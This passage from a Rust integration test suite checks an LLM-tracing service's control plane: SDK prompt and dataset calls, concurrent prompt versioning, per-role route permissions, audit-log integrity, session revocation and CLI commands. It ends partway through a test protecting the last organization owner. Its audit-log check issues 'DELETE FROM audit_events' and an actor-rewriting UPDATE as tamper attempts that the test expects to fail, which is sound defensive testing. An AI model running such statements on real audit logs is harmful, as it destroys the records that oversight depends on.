//! The control plane against the real servers: the unmodified Langfuse Python SDK's prompt,
//! dataset and experiment calls through the edge; prompt versions and labels under concurrent
//! writers; and every role against every route it may or may not use.

use std::time::{Duration, Instant};

use agenttrace_etl::control::datasets::{self, NewDataset, NewItem};
use agenttrace_etl::control::evaluators::{self, NewEvaluator};
use agenttrace_etl::control::experiments::{self, NewRunItem};
use agenttrace_etl::control::identity::{self, Role};
use agenttrace_etl::control::prices::{self, NewPrice};
use agenttrace_etl::control::prompts::{self, NewPromptVersion, PromptType, Selector};
use agenttrace_etl::control::{api_keys, projects};
use agenttrace_etl::http::throttle::SignInLimits;
use agenttrace_jobs::{Job, run_job};
use agenttrace_schemas::Scope;
use agenttrace_tests::TestEnv;
use agenttrace_tests::edge::Edge;
use agenttrace_tests::people::{PASSWORD, Person, signed_in as person};
use base64::Engine as _;
use serde_json::{Value, json};

async fn python(args: &[&str]) -> Value {
    let script = agenttrace_tests::repo_root().join("tests/python/langfuse_control_plane.py");
    let output = tokio::process::Command::new("python3")
        .arg(script)
        .args(args)
        .output()
        .await
        .unwrap();
    assert!(
        output.status.success(),
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    let stdout = String::from_utf8(output.stdout).unwrap();
    serde_json::from_str(stdout.trim().lines().last().unwrap()).unwrap()
}

#[tokio::test]
async fn the_langfuse_sdk_manages_prompts_datasets_and_experiments_through_the_edge() {
    let env = TestEnv::migrated().await;
    let etl = env.start_etl(|_| {}).await;
    let pg = env.postgres().await;
    let organization = projects::ensure_organization(&pg, "sdk-org").await.unwrap();
    let project = projects::create_project(&pg, organization, "sdk", None)
        .await
        .unwrap();
    let key = api_keys::create_key(
        &pg,
        project.id,
        &[Scope::Ingest, Scope::Read, Scope::Manage],
        None,
    )
    .await
    .unwrap();
    // Prompt reads are cached at the edge for at most this long.
    let edge = Edge::start(&etl.url, &[("PROMPT_CACHE_TTL_MS", "1500")]).await;
    let seen = python(&[&edge.url, &key.public_key, &key.secret_key, "setup"]).await;

    assert_eq!(seen["auth_check"], true);
    assert_eq!(seen["text"]["version"], 1, "production is on version 1");
    assert_eq!(seen["text"]["labels"], json!(["production"]));
    assert_eq!(seen["text"]["config"]["temperature"], 0.3);
    assert_eq!(seen["text"]["compiled"], "As a expert critic, do you like Dune?");
    assert_eq!(
        seen["chat"]["compiled"][0]["content"],
        "You help with AgentTrace."
    );
    assert_eq!(seen["latest"], 2);
    assert_eq!(
        seen["items"],
        json!(["capital-france", "capital-japan", "capital-peru"])
    );
    assert_eq!(seen["experiment_items"], 3);

    // Moving `production` (straight at the ETL, so the edge's cache is not told) shows through
    // the edge within its cache's bound.
    let basic = format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(format!("{}:{}", key.public_key, key.secret_key))
    );
    let moved = reqwest::Client::new()
        .patch(format!(
            "{}/api/public/v2/prompts/movie-critic/versions/2",
            etl.url
        ))
        .header("authorization", &basic)
        .json(&json!({"newLabels": ["production"]}))
        .send()
        .await
        .unwrap();
    assert_eq!(moved.status(), 200, "{}", moved.text().await.unwrap());
    let started = Instant::now();
    loop {
        let now = python(&[&edge.url, &key.public_key, &key.secret_key, "moved"]).await;
        if now["production"] == 2 {
            break;
        }
        assert!(
            started.elapsed() < Duration::from_millis(1500 + 3000),
            "still {now}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }

    // The experiment: each item's trace is linked, and the rollup job reports the run.
    let p = project.id;
    let linked = Instant::now();
    loop {
        let items: i64 = pg
            .query_one(
                "SELECT count(*) FROM experiment_items i JOIN experiments e ON e.id = i.experiment_id WHERE e.project_id = $1",
                &[&p],
            )
            .await
            .unwrap()
            .get(0);
        let scores = env
            .ch(&format!(
                "SELECT count() FROM scores FINAL WHERE project_id = '{p}' AND name = 'exact'"
            ))
            .await;
        if items == 3 && scores == "3" {
            break;
        }
        assert!(
            linked.elapsed() < Duration::from_secs(60),
            "{items} run items, {scores} scores"
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    let traces: Vec<String> = pg
        .query("SELECT trace_id FROM experiment_items ORDER BY trace_id", &[])
        .await
        .unwrap()
        .iter()
        .map(|row| row.get(0))
        .collect();
    let mut expected: Vec<String> = seen["trace_ids"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap().to_owned())
        .collect();
    expected.sort();
    assert_eq!(traces, expected);
    run_job(Job::ExperimentRollups, &pg, &env.clickhouse, None)
        .await
        .unwrap();
    assert_eq!(
        env.ch(&format!(
            "SELECT score_name, items, round(mean, 4) FROM experiment_rollups FINAL WHERE project_id = '{p}'"
        ))
        .await,
        "exact\t3\t0.6667"
    );
    drop(edge);
    etl.server.shutdown().await.unwrap();
}

fn text_version(name: &str, labels: &[&str]) -> NewPromptVersion {
    NewPromptVersion {
        name: name.to_owned(),
        kind: PromptType::Text,
        prompt: json!("hello {{name}}"),
        config: json!({}),
        labels: labels.iter().map(|l| (*l).to_owned()).collect(),
        tags: Vec::new(),
        commit_message: None,
    }
}

#[tokio::test]
async fn concurrent_prompt_writers_get_gap_free_versions_and_one_label_holder() {
    let env = TestEnv::migrated().await;
    let pg = env.postgres().await;
    let organization = projects::ensure_organization(&pg, "race").await.unwrap();
    let project = projects::create_project(&pg, organization, "race", None)
        .await
        .unwrap()
        .id;
    let writers: Vec<_> = (0..20)
        .map(|_| {
            let url = env.database_url.clone();
            tokio::spawn(async move {
                let mut client = agenttrace_etl::postgres::connect(&url).await.unwrap();
                prompts::create_version(&mut client, project, &text_version("greeting", &[]))
                    .await
                    .unwrap()
                    .version
            })
        })
        .collect();
    let mut versions = Vec::new();
    for writer in writers {
        versions.push(writer.await.unwrap());
    }
    versions.sort_unstable();
    assert_eq!(versions, (1..=20).collect::<Vec<_>>());

    let movers: Vec<_> = (1..=20)
        .map(|version| {
            let url = env.database_url.clone();
            tokio::spawn(async move {
                let mut client = agenttrace_etl::postgres::connect(&url).await.unwrap();
                prompts::set_labels(
                    &mut client,
                    project,
                    "greeting",
                    version,
                    &["production".to_owned()],
                )
                .await
                .unwrap();
            })
        })
        .collect();
    for mover in movers {
        mover.await.unwrap();
    }
    let holders: i64 = pg
        .query_one(
            "SELECT count(*) FROM prompt_labels l JOIN prompts p ON p.id = l.prompt_id
             WHERE p.project_id = $1 AND l.label = 'production'",
            &[&project],
        )
        .await
        .unwrap()
        .get(0);
    assert_eq!(holders, 1);
    let production = prompts::get(&pg, project, "greeting", &Selector::Label("production".into()))
        .await
        .unwrap();
    assert!(production.labels.contains(&"production".to_owned()));
    // The database, not only the code, refuses a second holder.
    let second = pg
        .execute(
            "INSERT INTO prompt_labels (prompt_id, label, version_id)
             SELECT prompt_id, 'production', id FROM prompt_versions WHERE prompt_id = $1 AND version = 1",
            &[&production.prompt_id],
        )
        .await;
    assert!(second.is_err());
}

/// Every route × every role: what each may do, and the 403 that names the role it lacks.
#[tokio::test]
async fn each_role_can_do_exactly_what_it_should() {
    let env = TestEnv::migrated().await;
    let etl = env.start_etl(|_| {}).await;
    let pg = env.postgres().await;
    // The first owner, as a new install creates them.
    let created: Value = serde_json::from_str(
        &env.cli(&[
            "user",
            "create-owner",
            "--organization",
            "acme",
            "--email",
            "Owner@acme.test",
            "--password",
            "owner password 1",
            "--json",
        ])
        .await
        .unwrap(),
    )
    .unwrap();
    assert_eq!(
        (created["email"].as_str(), created["role"].as_str()),
        (Some("owner@acme.test"), Some("owner"))
    );
    let organization = identity::Organization {
        id: created["organization_id"].as_str().unwrap().parse().unwrap(),
        name: "acme".into(),
    };
    let owner = identity::find_user(&pg, "owner@acme.test").await.unwrap();
    let project = projects::create_project(&pg, organization.id, "agents", None)
        .await
        .unwrap()
        .id;
    let password = "a long enough password";
    let mut sessions = vec![("owner", Role::Owner, owner.email.clone())];
    for role in [Role::Admin, Role::Member, Role::Viewer] {
        let email = format!("{}@acme.test", role.as_str());
        identity::create_user(&pg, &email, None, password).await.unwrap();
        sessions.push((role.as_str(), role, email));
    }
    for (name, _, _) in &sessions {
        identity::create_user(&pg, &format!("outsider-{name}@else.test"), None, password)
            .await
            .unwrap();
    }
    let http = reqwest::Client::new();
    let mut tokens: Vec<(&str, Role, String)> = Vec::new();
    for (name, role, email) in &sessions {
        let secret = if *role == Role::Owner {
            "owner password 1"
        } else {
            password
        };
        let answer: Value = http
            .post(format!("{}/v1/auth/sign-in", etl.url))
            .json(&json!({"email": email, "password": secret}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let token = answer["token"].as_str().unwrap().to_owned();
        // Everyone but the owner joins as a person does: the owner invites, they accept.
        if *role != Role::Owner {
            let invited: Value = http
                .post(format!(
                    "{}/v1/organizations/{}/members",
                    etl.url, organization.id
                ))
                .bearer_auth(&tokens[0].2)
                .json(&json!({"email": email, "role": role.as_str()}))
                .send()
                .await
                .unwrap()
                .json()
                .await
                .unwrap();
            let accepted = http
                .post(format!(
                    "{}/v1/invitations/{}/accept",
                    etl.url,
                    invited["id"].as_str().unwrap()
                ))
                .bearer_auth(&token)
                .send()
                .await
                .unwrap();
            assert_eq!(accepted.status(), 200, "{name} accepting: {invited}");
        }
        tokens.push((*name, *role, token));
    }
    let wrong = http
        .post(format!("{}/v1/auth/sign-in", etl.url))
        .json(&json!({"email": "viewer@acme.test", "password": "not the password"}))
        .send()
        .await
        .unwrap();
    assert_eq!(wrong.status(), 401);

    // What each role's delete acts on is its own (`<kind>` in a URL below is replaced by the
    // caller's), so the first delete does not leave the next role a 404.
    let mut targets = std::collections::HashMap::new();
    let mut writer = env.postgres().await;
    datasets::upsert(
        &pg,
        project,
        &NewDataset {
            name: "d".into(),
            ..NewDataset::default()
        },
    )
    .await
    .unwrap();
    evaluators::add(
        &pg,
        &NewEvaluator {
            project_id: project,
            name: "tuned".into(),
            kind: "latency_threshold".into(),
            config: json!({"max_ms": 1000}),
            schedule: None,
        },
    )
    .await
    .unwrap();
    for (name, _, _) in &tokens {
        prompts::create_version(&mut writer, project, &text_version(&format!("gone-{name}"), &[]))
            .await
            .unwrap();
        datasets::upsert_item(
            &pg,
            project,
            &NewItem {
                id: Some(format!("gone-{name}")),
                dataset_name: "d".into(),
                input: Some(json!({"q": name})),
                ..NewItem::default()
            },
        )
        .await
        .unwrap();
        evaluators::add(
            &pg,
            &NewEvaluator {
                project_id: project,
                name: format!("gone-{name}"),
                kind: "latency_threshold".into(),
                config: json!({"max_ms": 1000}),
                schedule: None,
            },
        )
        .await
        .unwrap();
        let key = api_keys::create_key(&pg, project, &[Scope::Ingest], None)
            .await
            .unwrap();
        targets.insert(format!("key-{name}"), key.public_key);
        let leaver = identity::create_user(&pg, &format!("leaver-{name}@acme.test"), None, password)
            .await
            .unwrap();
        identity::add_member(&pg, organization.id, leaver.id, Role::Viewer)
            .await
            .unwrap();
        targets.insert(format!("leaver-{name}"), leaver.id.to_string());
        let doomed = projects::create_project(&pg, organization.id, &format!("doomed-{name}"), None)
            .await
            .unwrap();
        targets.insert(format!("doomed-{name}"), doomed.id.to_string());
        datasets::upsert(
            &pg,
            project,
            &NewDataset {
                name: format!("gone-{name}"),
                ..NewDataset::default()
            },
        )
        .await
        .unwrap();
        let price = prices::set(
            &pg,
            &NewPrice {
                project_id: Some(project),
                model_pattern: format!("gone-{name}-.*"),
                provider: "house".into(),
                input: 1.0,
                output: 2.0,
                cache_read: 0.0,
                cache_write: 0.0,
                valid_from: None,
            },
        )
        .await
        .unwrap();
        targets.insert(format!("price-{name}"), price.id.to_string());
    }
    let run = experiments::record_run_item(
        &pg,
        project,
        &NewRunItem {
            run_name: "setup-run".into(),
            dataset_item_id: "gone-viewer".into(),
            trace_id: Some("setup-trace".into()),
            ..NewRunItem::default()
        },
    )
    .await
    .unwrap();
    targets.insert("experiment-setup".into(), run.experiment_id.to_string());
    for evaluator in evaluators::list(&pg, project).await.unwrap() {
        targets.insert(
            format!("evaluator-{}", evaluator.name.trim_start_matches("gone-")),
            evaluator.id.to_string(),
        );
    }

    let base = format!("{}/v1/projects/{project}", etl.url);
    let org = format!("{}/v1/organizations/{}", etl.url, organization.id);
    // (method, url, body, least role that may do it)
    let routes: Vec<(&str, String, Value, Role)> = vec![
        ("GET", format!("{org}/members"), json!(null), Role::Viewer),
        (
            "POST",
            format!("{base}/prompts"),
            json!({"name": "p", "prompt": "hi", "labels": ["production"]}),
            Role::Member,
        ),
        ("GET", format!("{base}/prompts/p"), json!(null), Role::Viewer),
        ("GET", format!("{base}/prompts"), json!(null), Role::Viewer),
        (
            "DELETE",
            format!("{base}/prompts/gone-<who>"),
            json!(null),
            Role::Member,
        ),
        (
            "PATCH",
            format!("{base}/prompts/p/versions/1"),
            json!({"labels": ["staging"]}),
            Role::Member,
        ),
        (
            "POST",
            format!("{base}/datasets"),
            json!({"name": "d"}),
            Role::Member,
        ),
        ("GET", format!("{base}/datasets"), json!(null), Role::Viewer),
        (
            "POST",
            format!("{base}/datasets/d/items"),
            json!({"input": {"q": 1}}),
            Role::Member,
        ),
        (
            "GET",
            format!("{base}/datasets/d/items"),
            json!(null),
            Role::Viewer,
        ),
        ("GET", format!("{base}/datasets/d"), json!(null), Role::Viewer),
        (
            "DELETE",
            format!("{base}/datasets/gone-<who>"),
            json!(null),
            Role::Member,
        ),
        (
            "GET",
            format!("{base}/datasets/d/items/gone-viewer"),
            json!(null),
            Role::Viewer,
        ),
        (
            "POST",
            format!("{base}/run-items"),
            json!({"run_name": "r", "dataset_item_id": "gone-viewer", "trace_id": "t1"}),
            Role::Member,
        ),
        (
            "GET",
            format!("{base}/experiments/<experiment-setup>"),
            json!(null),
            Role::Viewer,
        ),
        (
            "DELETE",
            format!("{base}/prices/<price>"),
            json!(null),
            Role::Member,
        ),
        ("GET", base.clone(), json!(null), Role::Viewer),
        (
            "DELETE",
            format!("{base}/datasets/d/items/gone-<who>"),
            json!(null),
            Role::Member,
        ),
        (
            "PATCH",
            format!("{base}/evaluators/<evaluator-tuned>"),
            json!({"config": {"max_ms": 2000}}),
            Role::Member,
        ),
        (
            "DELETE",
            format!("{base}/evaluators/<evaluator>"),
            json!(null),
            Role::Member,
        ),
        (
            "POST",
            format!("{base}/evaluators"),
            json!({"name": "quick", "kind": "latency_threshold", "config": {"max_ms": 5000}}),
            Role::Member,
        ),
        ("GET", format!("{base}/evaluators"), json!(null), Role::Viewer),
        ("GET", format!("{base}/experiments"), json!(null), Role::Viewer),
        (
            "POST",
            format!("{base}/prices"),
            json!({"model_pattern": "house-.*", "input": 1.0, "output": 2.0}),
            Role::Member,
        ),
        ("GET", format!("{base}/prices"), json!(null), Role::Viewer),
        ("GET", format!("{org}/projects"), json!(null), Role::Viewer),
        // Each role that may gets a project of its own name (see the loop).
        ("POST", format!("{org}/projects"), json!({}), Role::Admin),
        ("PATCH", base.clone(), json!({"retention_days": 30}), Role::Admin),
        ("GET", format!("{base}/keys"), json!(null), Role::Admin),
        ("DELETE", format!("{base}/keys/<key>"), json!(null), Role::Admin),
        (
            "DELETE",
            format!("{}/v1/projects/<doomed>", etl.url),
            json!(null),
            Role::Admin,
        ),
        (
            "DELETE",
            format!("{org}/members/<leaver>"),
            json!(null),
            Role::Admin,
        ),
        (
            "POST",
            format!("{base}/keys"),
            json!({"scopes": ["ingest"]}),
            Role::Admin,
        ),
        (
            "POST",
            format!("{org}/members"),
            json!({"email": "outsider-<who>@else.test", "role": "viewer"}),
            Role::Admin,
        ),
        (
            "POST",
            format!("{org}/members"),
            json!({"email": "outsider-<who>@else.test", "role": "owner"}),
            Role::Owner,
        ),
    ];
    // Every change made, by whom: the audit log must hold each.
    let mut changes: Vec<(String, String, String)> = Vec::new();
    // Most privileged first, so what a route creates exists when the others read it.
    for (name, role, token) in &tokens {
        for (method, url, body, least) in &routes {
            let url = &url.replace("<who>", name);
            let url = &["evaluator-tuned", "leaver-viewer", "experiment-setup"]
                .iter()
                .fold(url.clone(), |url, fixed| {
                    url.replace(&format!("<{fixed}>"), &targets[*fixed])
                });
            let url = &["evaluator", "key", "doomed", "leaver", "price"]
                .iter()
                .fold(url.clone(), |url, kind| {
                    url.replace(&format!("<{kind}>"), &targets[&format!("{kind}-{name}")])
                });
            let request = http
                .request(method.parse().unwrap(), url)
                .header("authorization", format!("Bearer {token}"));
            let body = if url.ends_with("/projects") && *method == "POST" {
                &json!({ "name": format!("project-of-{name}") })
            } else {
                &serde_json::from_str(&body.to_string().replace("<who>", name)).unwrap()
            };
            let request = if body.is_null() {
                request
            } else {
                request.json(body)
            };
            let response = request.send().await.unwrap();
            let status = response.status().as_u16();
            let text = response.text().await.unwrap();
            if role >= least {
                assert!(
                    (200..300).contains(&status),
                    "{name} {method} {url}: {status} {text}"
                );
                if *method != "GET" {
                    let path = reqwest::Url::parse(url).unwrap().path().to_owned();
                    changes.push((format!("user:{name}@acme.test"), method.to_string(), path));
                }
            } else {
                assert_eq!(status, 403, "{name} {method} {url}: {text}");
                assert!(
                    text.contains(&format!("needs the {} role", least.as_str())),
                    "{text}"
                );
            }
        }
    }
    // The audit log holds every change above, each by the person who made it, and their
    // sign-ins; admins read it, members do not; no one can edit it.
    let log: Value = http
        .get(format!("{org}/audit-log?limit=1000"))
        .bearer_auth(&tokens[1].2)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let recorded: std::collections::HashSet<(String, String, String)> =
        log.as_array()
            .unwrap()
            .iter()
            .map(|entry| {
                let (method, route) = entry["action"].as_str().unwrap().split_once(' ').unwrap();
                let path = entry["target"].as_object().unwrap().iter().fold(
                    route.to_owned(),
                    |path, (name, value)| {
                        path.replace(&format!("{{{name}}}"), value.as_str().unwrap_or_default())
                    },
                );
                (
                    entry["actor"].as_str().unwrap().to_owned(),
                    method.to_owned(),
                    path,
                )
            })
            .collect();
    assert!(changes.len() > 40, "{changes:?}");
    for change in &changes {
        assert!(
            recorded.contains(change),
            "not in the audit log: {change:?}\n{log:#}"
        );
    }
    for (name, _, _) in &tokens {
        let signed_in = (
            format!("user:{name}@acme.test"),
            "POST".to_owned(),
            "/v1/auth/sign-in".to_owned(),
        );
        assert!(recorded.contains(&signed_in), "{signed_in:?}");
    }
    // Paged by id: the next page starts where the last one ended.
    let entries = log.as_array().unwrap();
    let first_page: Value = http
        .get(format!("{org}/audit-log?limit=5"))
        .bearer_auth(&tokens[1].2)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let last = first_page[4]["id"].as_i64().unwrap();
    let next_page: Value = http
        .get(format!("{org}/audit-log?limit=5&before={last}"))
        .bearer_auth(&tokens[1].2)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let ids: Vec<i64> = next_page
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["id"].as_i64().unwrap())
        .collect();
    let expected: Vec<i64> = entries
        .iter()
        .map(|e| e["id"].as_i64().unwrap())
        .filter(|id| *id < last)
        .take(5)
        .collect();
    assert_eq!(ids, expected);
    let as_member = http
        .get(format!("{org}/audit-log"))
        .bearer_auth(&tokens[2].2)
        .send()
        .await
        .unwrap();
    assert_eq!(as_member.status(), 403);
    for statement in [
        "UPDATE audit_events SET actor = 'someone else'",
        "DELETE FROM audit_events",
    ] {
        let refused = pg.execute(statement, &[]).await.unwrap_err();
        assert!(
            refused.to_string().contains("append-only") || format!("{refused:?}").contains("append-only"),
            "{refused:?}"
        );
    }
    let by_cli: i64 = pg
        .query_one(
            "SELECT count(*) FROM audit_events WHERE action = 'cli user create-owner' AND actor LIKE 'cli:%'",
            &[],
        )
        .await
        .unwrap()
        .get(0);
    assert_eq!(by_cli, 1);
    // Listings are paged: `{data, meta}`, and a bad page names the parameter.
    let owner_token = &tokens[0].2;
    let as_owner =
        |method: reqwest::Method, url: String| http.request(method, url).bearer_auth(owner_token).send();
    for listing in ["prompts", "datasets/d/items", "evaluators", "keys"] {
        let page: Value = as_owner(reqwest::Method::GET, format!("{base}/{listing}?page=2&limit=1"))
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let total = page["meta"]["totalItems"].as_i64().unwrap();
        assert!(total >= 2, "{listing}: {page}");
        assert_eq!(page["data"].as_array().unwrap().len(), 1, "{listing}: {page}");
        assert_eq!(page["meta"]["totalPages"], total, "{listing}: {page}");
    }
    let bad = as_owner(reqwest::Method::GET, format!("{base}/prompts?limit=0"))
        .await
        .unwrap();
    assert_eq!(bad.status(), 400);
    assert!(
        bad.text()
            .await
            .unwrap()
            .contains("limit: must be between 1 and 1000")
    );
    // A dataset an experiment ran over is not deleted with it; an item is found only in its dataset.
    let refused = as_owner(reqwest::Method::DELETE, format!("{base}/datasets/d"))
        .await
        .unwrap();
    assert_eq!(refused.status(), 409);
    let elsewhere = as_owner(
        reqwest::Method::GET,
        format!("{base}/datasets/gone-viewer/items/gone-viewer"),
    )
    .await
    .unwrap();
    assert_eq!(elsewhere.status(), 404);
    let experiment: Value = as_owner(
        reqwest::Method::GET,
        format!("{base}/experiments/{}", targets["experiment-setup"]),
    )
    .await
    .unwrap()
    .json()
    .await
    .unwrap();
    assert_eq!(experiment["experiment"]["name"], "setup-run", "{experiment}");
    assert_eq!(experiment["items"][0]["trace_id"], "setup-trace", "{experiment}");
    // Someone outside the organization does not even see the project.
    identity::create_user(&pg, "stranger@else.test", None, password)
        .await
        .unwrap();
    let stranger: Value = http
        .post(format!("{}/v1/auth/sign-in", etl.url))
        .json(&json!({"email": "stranger@else.test", "password": password}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let hidden = http
        .get(format!("{base}/prompts/p"))
        .header(
            "authorization",
            format!("Bearer {}", stranger["token"].as_str().unwrap()),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(hidden.status(), 404);
    // A project key's scopes gate the same routes.
    let reader = api_keys::create_key(&pg, project, &[Scope::Read], None)
        .await
        .unwrap();
    let bearer = format!("Bearer {}:{}", reader.public_key, reader.secret_key);
    let read = http
        .get(format!("{base}/prompts/p"))
        .header("authorization", &bearer)
        .send()
        .await
        .unwrap();
    assert_eq!(read.status(), 200);
    let write = http
        .post(format!("{base}/prompts"))
        .header("authorization", &bearer)
        .json(&json!({"name": "q", "prompt": "x"}))
        .send()
        .await
        .unwrap();
    assert_eq!(write.status(), 403);
    assert!(write.text().await.unwrap().contains("lacks the `manage` scope"));
    // A member ends every session of theirs: their token stops working.
    let (_, _, member_token) = &tokens[2];
    let member_id = identity::find_user(&pg, "member@acme.test").await.unwrap().id;
    let revoked = http
        .post(format!("{org}/members/{member_id}/sessions/revoke"))
        .header("authorization", format!("Bearer {member_token}"))
        .send()
        .await
        .unwrap();
    assert_eq!(revoked.status(), 200, "{}", revoked.text().await.unwrap());
    let after = http
        .get(format!("{}/v1/me", etl.url))
        .header("authorization", format!("Bearer {member_token}"))
        .send()
        .await
        .unwrap();
    assert_eq!(after.status(), 401);
    // A signed-out session stops working.
    let (_, _, viewer_token) = tokens.last().unwrap();
    let out = http
        .post(format!("{}/v1/auth/sign-out", etl.url))
        .header("authorization", format!("Bearer {viewer_token}"))
        .send()
        .await
        .unwrap();
    assert_eq!(out.status(), 204);
    let after = http
        .get(format!("{}/v1/me", etl.url))
        .header("authorization", format!("Bearer {viewer_token}"))
        .send()
        .await
        .unwrap();
    assert_eq!(after.status(), 401);
    etl.server.shutdown().await.unwrap();
}

async fn run_cli(env: &TestEnv, args: &[&str]) -> String {
    env.cli(args).await.unwrap()
}

/// The CLI over the same library functions: prompts, datasets, experiments, evaluators, keys.
#[tokio::test]
async fn the_cli_manages_prompts_datasets_and_organization_keys() {
    let env = TestEnv::migrated().await;
    let pg = env.postgres().await;
    let organization = projects::ensure_organization(&pg, "cli-org").await.unwrap();
    let project = projects::create_project(&pg, organization, "cli", None)
        .await
        .unwrap()
        .id
        .to_string();
    let created: Value = serde_json::from_str(
        &run_cli(
            &env,
            &[
                "prompt",
                "create",
                "--project",
                &project,
                "--name",
                "greet",
                "--text",
                "Hi {{who}}",
                "--label",
                "production",
                "--json",
            ],
        )
        .await,
    )
    .unwrap();
    assert_eq!(created["version"], 1);
    run_cli(
        &env,
        &[
            "prompt",
            "create",
            "--project",
            &project,
            "--name",
            "greet",
            "--text",
            "Hello {{who}}",
        ],
    )
    .await;
    let moved = run_cli(
        &env,
        &[
            "prompt",
            "label",
            "--project",
            &project,
            "--name",
            "greet",
            "--version",
            "2",
            "--label",
            "production",
        ],
    )
    .await;
    assert_eq!(moved.trim(), "greet version 2: production, latest");
    let got: Value = serde_json::from_str(
        &run_cli(
            &env,
            &[
                "prompt",
                "get",
                "--project",
                &project,
                "--name",
                "greet",
                "--var",
                "who=Ada",
                "--json",
            ],
        )
        .await,
    )
    .unwrap();
    assert_eq!(got["prompt"], "Hello Ada");

    let dir = std::env::temp_dir().join(format!("cli-{}", uuid::Uuid::new_v4()));
    std::fs::create_dir_all(&dir).unwrap();
    let schema = dir.join("input.schema.json");
    std::fs::write(&schema, r#"{"type": "object", "required": ["q"]}"#).unwrap();
    run_cli(
        &env,
        &[
            "dataset",
            "create",
            "--project",
            &project,
            "--name",
            "qa",
            "--input-schema",
            schema.to_str().unwrap(),
        ],
    )
    .await;
    let good = dir.join("good.jsonl");
    std::fs::write(
        &good,
        "{\"input\": {\"q\": 1}, \"expected_output\": \"a\"}\n{\"id\": \"two\", \"input\": {\"q\": 2}}\n",
    )
    .unwrap();
    assert_eq!(
        run_cli(
            &env,
            &[
                "dataset",
                "import",
                "--project",
                &project,
                "--name",
                "qa",
                good.to_str().unwrap()
            ]
        )
        .await
        .trim(),
        "imported 2 items into qa"
    );
    let bad = dir.join("bad.jsonl");
    std::fs::write(&bad, "{\"input\": {\"nope\": 1}}\n").unwrap();
    let refused = env
        .cli_error(&[
            "dataset",
            "import",
            "--project",
            &project,
            "--name",
            "qa",
            bad.to_str().unwrap(),
        ])
        .await;
    assert!(
        refused.contains("line 1") && refused.contains("schema"),
        "{refused}"
    );
    let items: Value = serde_json::from_str(
        &run_cli(
            &env,
            &[
                "dataset",
                "items",
                "--project",
                &project,
                "--name",
                "qa",
                "--json",
            ],
        )
        .await,
    )
    .unwrap();
    assert_eq!(items.as_array().unwrap().len(), 2);
    assert_eq!(
        run_cli(&env, &["experiment", "list", "--project", &project, "--json"])
            .await
            .trim(),
        "[]"
    );
    let run = experiments::record_run_item(
        &pg,
        project.parse().unwrap(),
        &NewRunItem {
            run_name: "first-run".into(),
            dataset_item_id: items[0]["id"].as_str().unwrap().to_owned(),
            trace_id: Some("trace-of-first-run".into()),
            ..NewRunItem::default()
        },
    )
    .await
    .unwrap();
    let experiment_id = run.experiment_id.to_string();
    let shown: Value = serde_json::from_str(
        &run_cli(
            &env,
            &[
                "experiment",
                "show",
                "--project",
                &project,
                &experiment_id,
                "--json",
            ],
        )
        .await,
    )
    .unwrap();
    assert_eq!(shown["experiment"]["name"], "first-run", "{shown}");
    assert_eq!(shown["items"][0]["trace_id"], "trace-of-first-run", "{shown}");
    run_cli(
        &env,
        &[
            "evaluator",
            "add",
            "--project",
            &project,
            "--name",
            "fast",
            "--kind",
            "latency_threshold",
            "--config",
            r#"{"max_ms": 100}"#,
        ],
    )
    .await;
    let evaluators: Value =
        serde_json::from_str(&run_cli(&env, &["evaluator", "list", "--project", &project, "--json"]).await)
            .unwrap();
    assert_eq!(evaluators[0]["name"], "fast");
    let key: Value = serde_json::from_str(
        &run_cli(
            &env,
            &[
                "org",
                "key",
                "--organization",
                &organization.to_string(),
                "--json",
            ],
        )
        .await,
    )
    .unwrap();
    assert!(key["public_key"].as_str().unwrap().starts_with("pk-org-"));
    assert_eq!(
        identity::verify_organization_key(
            &pg,
            key["public_key"].as_str().unwrap(),
            key["secret_key"].as_str().unwrap()
        )
        .await
        .unwrap(),
        Some(organization)
    );
    std::fs::remove_dir_all(dir).unwrap();
}

/// `method url` as `who`, with a JSON body unless it is null: (status, body).
async fn call(who: &Person, method: &str, url: impl reqwest::IntoUrl, body: Value) -> (u16, Value) {
    let request = reqwest::Client::new()
        .request(method.parse().unwrap(), url)
        .bearer_auth(&who.token);
    let request = if body.is_null() {
        request
    } else {
        request.json(&body)
    };
    let response = request.send().await.unwrap();
    let status = response.status().as_u16();
    let text = response.text().await.unwrap();
    (status, serde_json::from_str(&text).unwrap_or(Value::String(text)))
}

async fn owners(pg: &tokio_postgres::Client, organization: uuid::Uuid) -> i64 {
    pg.query_one(
        "SELECT count(*) FROM organization_members WHERE organization_id = $1 AND role = 'owner'",
        &[&organization],
    )
    .await
    .unwrap()
    .get(0)
}

async fn make_owner(pg: &tokio_postgres::Client, organization: uuid::Uuid, who: &Person) {
    pg.execute(
        "INSERT INTO organization_members (organization_id, user_id, role) VALUES ($1, $2, 'owner')
         ON CONFLICT (organization_id, user_id) DO UPDATE SET role = 'owner'",
        &[&organization, &who.id],
    )
    .await
    .unwrap();
}

/// Attack: an admin demotes or removes the only owner, or the owners race to leave. Only an
/// owner may change or remove an owner, and the check and the change are one transaction with
/// the organization locked, so concurrent demotions still leave one owner.
#[tokio::test]
async fn only_an_owner_changes_an_owner_and_the_last_owner_stays() {
    let env = TestEnv::migrated().await;
    let etl = env.start_etl(|_| {}).await;
    let mut pg = env.postgres().await;
    let owner = person(&pg, &etl.url, "owner@owners.test").await;
    let admin = person(&pg, &etl.url, "admin@owners.test").await;
    let second = person(&pg, &etl.url, "second@owners.test").await;
    let organization = identity::found_organization(&mut pg, "owners", owner.id)
        .await
        .unwrap()
        .id;
    identity::add_member(&pg, organization, admin.id, Role::Admin)
        .await
        .unwrap();
    identity::add_member(&pg, organization, second.id, Role::Member)
        .await
        .unwrap();
    let members = format!("{}/v1/organizations/{organization}/members", etl.url);

    // An admin may not demote the owner, to any role, nor remove them.
    for role in ["viewer", "admin"] {
